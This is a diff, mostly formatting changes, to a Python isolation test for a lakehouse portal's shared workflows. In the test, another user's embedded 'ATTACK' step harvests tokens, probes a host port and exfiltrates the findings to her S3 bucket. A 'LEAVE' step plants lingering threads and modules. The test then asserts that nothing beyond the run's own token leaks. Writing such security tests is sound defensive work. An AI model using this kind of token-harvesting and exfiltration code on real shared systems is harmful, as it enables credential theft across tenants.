@@ -10,6 +10,7 @@ private workflow on another of his warehouses before, and runs it twice after.
 
 Run it alone, under the heavy lock: it starts a compute unit, Spark, and a run's own Spark.
 """
+
 from __future__ import annotations
 
 import json
@@ -20,19 +21,30 @@ from dataclasses import replace
 import jwt
 import pyarrow.fs as pafs
 import pytest
-from sqlmodel import Session
 
 from app import create_app
 from app.compute_units import lifecycle
 from app.models import ComputeUnit, Execution, Warehouse, WorkflowShare
 from app.worker import Worker
 from devstack.seaweedfs import TEST_USER_KEYS
-from tests.test_executions import (add, csrf, independent_catalog, make_user, reload, sign_in_as, start_unit, text,
-                                   wait_for, workflow_for)
+from tests.test_executions import (
+    add,
+    csrf,
+    independent_catalog,
+    make_user,
+    reload,
+    sign_in_as,
+    start_unit,
+    text,
+    wait_for,
+    workflow_for,
+)
 
-RUN_TIMEOUT_S = 600.0  # a shared workflow's run starts a Spark of its own (a minute on a busy machine)
+RUN_TIMEOUT_S = (
+    600.0  # a shared workflow's run starts a Spark of its own (a minute on a busy machine)
+)
 
-ATTACK = r'''
+ATTACK = r"""
 import builtins, gc, json, socket, sys, threading, time, uuid
 import pyarrow.fs as pafs
 
@@ -119,9 +131,9 @@ def run(spark):
         reached = False
     _send("first", {"found": sorted(_found), "reached_host_port": reached})
     return spark.createDataFrame([(len(_found), reached)], "found INT, reached_host_port BOOLEAN")
-'''
+"""
 
-LOOK = '''
+LOOK = """
 import builtins, sys, threading
 import compute.catalog_cache, compute.pipeline
 
@@ -138,9 +150,9 @@ def run(spark):
     ]
     return spark.createDataFrame([tuple(planted)], "builtin BOOLEAN, module_global BOOLEAN, run_pipeline BOOLEAN, "
                                  "pipeline_run BOOLEAN, binding BOOLEAN, thread BOOLEAN, module BOOLEAN")
-'''
+"""
 
-LEAVE = '''
+LEAVE = """
 import builtins, sys, threading, time, types
 import compute.pipeline
 
@@ -152,7 +164,7 @@ def run(spark):
     sys.modules["bob_leftover_module"] = types.ModuleType("bob_leftover_module")
     threading.Thread(target=time.sleep, args=(900,), name="bob-lingering", daemon=False).start()
     return spark.range(1)
-'''
+"""
 
 
 def step(name: str, code: str) -> dict:
@@ -162,19 +174,34 @@ def step(name: str, code: str) -> dict:
 def register(client, lakehouse, name: str, user: str) -> int:
     """A real warehouse in `user`'s own bucket, registered through the portal."""
     keys = TEST_USER_KEYS[user]
-    response = client.post("/warehouses/", data={
-        "name": name, "bucket": keys.bucket, "key_prefix": f"isolation/{name}-{secrets.token_hex(3)}",
-        "endpoint": lakehouse.s3_endpoint, "region": "us-east-1", "path_style_access": "on", "flavor": "s3-compat",
-        "access_key_id": keys.access_key_id, "secret_access_key": keys.secret_access_key, "csrf_token": csrf(client)})
+    response = client.post(
+        "/warehouses/",
+        data={
+            "name": name,
+            "bucket": keys.bucket,
+            "key_prefix": f"isolation/{name}-{secrets.token_hex(3)}",
+            "endpoint": lakehouse.s3_endpoint,
+            "region": "us-east-1",
+            "path_style_access": "on",
+            "flavor": "s3-compat",
+            "access_key_id": keys.access_key_id,
+            "secret_access_key": keys.secret_access_key,
+            "csrf_token": csrf(client),
+        },
+    )
     assert response.status_code == 302, text(response)
     return int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
 
 
 def alices_storage(lakehouse) -> pafs.S3FileSystem:
     keys = TEST_USER_KEYS["alice"]
-    return pafs.S3FileSystem(access_key=keys.access_key_id, secret_key=keys.secret_access_key,
-                             endpoint_override=lakehouse.s3_endpoint.split("://", 1)[1], scheme="http",
-                             region="us-east-1")
+    return pafs.S3FileSystem(
+        access_key=keys.access_key_id,
+        secret_key=keys.secret_access_key,
+        endpoint_override=lakehouse.s3_endpoint.split("://", 1)[1],
+        scheme="http",
+        region="us-east-1",
+    )
 
 
 def exfiltrated(lakehouse, prefix: str) -> dict[str, object]:
@@ -190,16 +217,29 @@ def exfiltrated(lakehouse, prefix: str) -> dict[str, object]:
 
 def run_to_end(client, db_engine, workflow, cu_id: int, warehouse_id: int) -> Execution:
     """Run version 1 (the one the run form showed: a run of another's workflow names it)."""
-    response = client.post(f"/executions/new?workflow_id={workflow.id}", data={
-        "version": "1", "compute_unit_id": str(cu_id), "warehouse_id": str(warehouse_id), "csrf_token": csrf(client)})
+    response = client.post(
+        f"/executions/new?workflow_id={workflow.id}",
+        data={
+            "version": "1",
+            "compute_unit_id": str(cu_id),
+            "warehouse_id": str(warehouse_id),
+            "csrf_token": csrf(client),
+        },
+    )
     assert response.status_code == 302, text(response)
     execution_id = int(response.headers["Location"].rsplit("/", 1)[1])
-    return wait_for(client, db_engine, execution_id, ("COMPLETED", "FAILED", "CANCELLED"), timeout=RUN_TIMEOUT_S)
+    return wait_for(
+        client, db_engine, execution_id, ("COMPLETED", "FAILED", "CANCELLED"), timeout=RUN_TIMEOUT_S
+    )
 
 
-def output_rows(lakehouse, db_engine, execution: Execution, warehouse_id: int, step_name: str) -> list[dict]:
+def output_rows(
+    lakehouse, db_engine, execution: Execution, warehouse_id: int, step_name: str
+) -> list[dict]:
     warehouse = reload(db_engine, Warehouse, warehouse_id)
-    table = independent_catalog(lakehouse, warehouse).load_table(f"results.e{execution.id}_{step_name}")
+    table = independent_catalog(lakehouse, warehouse).load_table(
+        f"results.e{execution.id}_{step_name}"
+    )
     return table.scan().to_arrow().to_pylist()
 
 
@@ -207,40 +247,79 @@ def output_rows(lakehouse, db_engine, execution: Execution, warehouse_id: int, s
 def stage(portal_config, lakehouse, db_engine):
     """bob with a local unit and two warehouses (one for the shared run, one private); alice with a
     client of her own."""
-    app = create_app(replace(portal_config, LAKEKEEPER_URL=lakehouse.catalog_url, CU_MAX_CPUS=2,
-                             CU_ALLOWED_ENDPOINTS=lakehouse.cu_allowed_endpoints, CU_MAX_MEMORY_GB=4.0,
-                             CU_MAX_WORKERS=1, CU_WARM_SPARK_ON_START=True))
+    app = create_app(
+        replace(
+            portal_config,
+            LAKEKEEPER_URL=lakehouse.catalog_url,
+            CU_MAX_CPUS=2,
+            CU_ALLOWED_ENDPOINTS=lakehouse.cu_allowed_endpoints,
+            CU_MAX_MEMORY_GB=4.0,
+            CU_MAX_WORKERS=1,
+            CU_WARM_SPARK_ON_START=True,
+        )
+    )
     worker = Worker(app).start()
     alice, bob = make_user(db_engine), make_user(db_engine)
     bobs = app.test_client()
     sign_in_as(bobs, bob)
-    shared_target, private = register(bobs, lakehouse, "target", "bob"), register(bobs, lakehouse, "private", "bob")
+    shared_target, private = (
+        register(bobs, lakehouse, "target", "bob"),
+        register(bobs, lakehouse, "private", "bob"),
+    )
     cu = start_unit(bobs, db_engine, "bobs")
     with app.app_context():
         host_port = lifecycle.handle_of(cu).details["ports"]["spark_host"]
-    yield {"app": app, "alice": alice, "bob": bob, "client": bobs, "cu_id": cu.id, "host_port": host_port,
-           "shared_target": shared_target, "private": private}
+    yield {
+        "app": app,
+        "alice": alice,
+        "bob": bob,
+        "client": bobs,
+        "cu_id": cu.id,
+        "host_port": host_port,
+        "shared_target": shared_target,
+        "private": private,
+    }
     with app.app_context():
         lifecycle.terminate(reload(db_engine, ComputeUnit, cu.id), reason="test over")
     worker.stop()
 
 
-def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_behind(stage, lakehouse, db_engine):
-    client, cu_id, private, target = stage["client"], stage["cu_id"], stage["private"], stage["shared_target"]
+def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_behind(
+    stage, lakehouse, db_engine
+):
+    client, cu_id, private, target = (
+        stage["client"],
+        stage["cu_id"],
+        stage["private"],
+        stage["shared_target"],
+    )
     looking = workflow_for(db_engine, stage["bob"], [step("look", LOOK)])
     # bob's own run first: his unit now holds the private warehouse's catalog binding.
     before = run_to_end(client, db_engine, looking, cu_id, private)
     assert before.state == "COMPLETED", before.reason
 
     keys, prefix = TEST_USER_KEYS["alice"], f"exfil-{secrets.token_hex(4)}"
-    exfil = {"bucket": keys.bucket, "prefix": prefix, "access_key": keys.access_key_id,
-             "secret_key": keys.secret_access_key, "endpoint": lakehouse.s3_endpoint.split("://", 1)[1],
-             "host_port": stage["host_port"]}
-    attack = workflow_for(db_engine, stage["alice"], [step("attack", ATTACK.replace("__EXFIL__", repr(exfil)))])
+    exfil = {
+        "bucket": keys.bucket,
+        "prefix": prefix,
+        "access_key": keys.access_key_id,
+        "secret_key": keys.secret_access_key,
+        "endpoint": lakehouse.s3_endpoint.split("://", 1)[1],
+        "host_port": stage["host_port"],
+    }
+    attack = workflow_for(
+        db_engine, stage["alice"], [step("attack", ATTACK.replace("__EXFIL__", repr(exfil)))]
+    )
     add(db_engine, WorkflowShare(workflow_id=attack.id, user_id=stage["bob"].id, level="run"))
     attacked = run_to_end(client, db_engine, attack, cu_id, target)
-    assert attacked.state == "COMPLETED", (attacked.reason, [line["message"] for line in json.loads(
-        attacked.progress or "{}").get("logs", []) if line["level"] == "ERROR"])
+    assert attacked.state == "COMPLETED", (
+        attacked.reason,
+        [
+            line["message"]
+            for line in json.loads(attacked.progress or "{}").get("logs", [])
+            if line["level"] == "ERROR"
+        ],
+    )
 
     after = [run_to_end(client, db_engine, looking, cu_id, private) for _ in range(2)]
     for execution in after:
@@ -250,7 +329,9 @@ def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_b
 
     # What alice's code sent home: it worked (it found this run's own token, scoped to the
     # warehouse bob chose for it), and it holds nothing else of bob's.
-    time.sleep(1)  # her lingering thread, were it alive, would have sent what bob's later runs showed
+    time.sleep(
+        1
+    )  # her lingering thread, were it alive, would have sent what bob's later runs showed
     sent = exfiltrated(lakehouse, prefix)
     first = next(payload for name, payload in sent.items() if name.startswith("first-"))
     assert first["reached_host_port"] is False
@@ -258,7 +339,10 @@ def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_b
     assert not [name for name in sent if name.startswith("patched-")], sorted(sent)
     target_row, private_row = (reload(db_engine, Warehouse, wid) for wid in (target, private))
     everything = json.dumps(sent)
-    assert private_row.lakekeeper_name not in everything and private_row.lakekeeper_id not in everything
+    assert (
+        private_row.lakekeeper_name not in everything
+        and private_row.lakekeeper_id not in everything
+    )
     # Catalog tokens (they carry a warehouse scope here): only this run's. Other JWTs found are
     # the storage session tokens the catalog vended for this run's warehouse: none names the other.
     scopes, others = set(), []
@@ -267,8 +351,13 @@ def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_b
             claims = jwt.decode(value, options={"verify_signature": False})
             scopes.add(claims["scope"]) if "scope" in claims else others.append(json.dumps(claims))
     assert scopes == {f"warehouse:{target_row.lakekeeper_id}"}, scopes
-    assert not [claims for claims in others if private_row.lakekeeper_id in claims
-                or private_row.key_prefix in claims or private_row.lakekeeper_name in claims], others
+    assert not [
+        claims
+        for claims in others
+        if private_row.lakekeeper_id in claims
+        or private_row.key_prefix in claims
+        or private_row.lakekeeper_name in claims
+    ], others
 
 
 def _values(payload) -> list[str]:
